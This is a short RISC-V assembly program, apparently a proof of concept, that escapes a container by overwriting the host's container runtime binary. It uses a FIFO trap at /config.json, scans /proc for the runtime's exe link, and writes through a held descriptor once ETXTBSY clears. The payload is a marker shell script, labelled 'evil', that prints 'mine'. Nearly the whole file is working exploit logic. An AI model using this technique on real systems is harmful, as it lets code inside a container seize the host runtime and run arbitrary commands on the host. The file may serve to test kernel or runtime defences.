# Waits until somebody starts a program in this container whose name leads to
# /proc/self/exe: that is the runtime, which now runs in here. The runtime stops at
# a pipe that it takes for its configuration; then its file can be opened, and when
# it no longer runs, written. (Linux refuses to write to what is being executed,
# ETXTBSY; this kernel does not, but the program is written for Linux.)

        .equ OTHERS, 40                 # numbers of tasks that are tried
main:   li    a0, AT_FDCWD
        la    a1, config
        li    a2, S_IFIFO | 0666
        li    a3, 0
        li    a7, NR_mknodat
        ecall
1:      la    a2, moment                # every millisecond
        li    a0, 1                     # CLOCK_MONOTONIC
        li    a1, 0
        li    a3, 0
        li    a7, NR_clock_nanosleep_time64
        ecall
        li    s1, 2
2:      la    a0, path
        la    a1, proc
        mv    a2, s1
        la    a3, exe
        jal   put_path
        la    a0, path
        jal   open_input                # O_RDONLY: who runs cannot be written
        bgez  a0, 3f
        addi  s1, s1, 1
        li    t0, OTHERS
        bne   s1, t0, 2b
        j     1b
3:      mv    s2, a0
        li    a0, AT_FDCWD              # let it go on: nothing to read
        la    a1, config
        li    a2, O_WRONLY
        li    a7, NR_openat
        ecall
        li    a7, NR_close
        ecall
        la    a0, path                  # the same file once more, by the
        la    a1, own                   # descriptor
        mv    a2, s2
        la    a3, nothing
        jal   put_path
4:      la    a2, moment
        li    a0, 1
        li    a1, 0
        li    a3, 0
        li    a7, NR_clock_nanosleep_time64
        ecall
        li    a0, AT_FDCWD
        la    a1, path
        li    a2, O_WRONLY | O_TRUNC
        li    a7, NR_openat
        ecall
        addi  t0, a0, 26                # ETXTBSY: it still runs
        beqz  t0, 4b
        bltz  a0, 5f
        la    a1, evil
        jal   send
        li    a0, 0
        j     exit
5:      la    a1, path
        j     die

config: .asciz "/config.json"
proc:   .asciz "/proc/"
exe:    .asciz "/exe"
own:    .asciz "/proc/self/fd/"
nothing:
        .asciz ""
evil:   .asciz "#!/bin/sh\necho mine\n"
        .data
        .balign 8
moment: .word 0, 0, 1000000, 0
        .bss
path:   .space 32
        .text
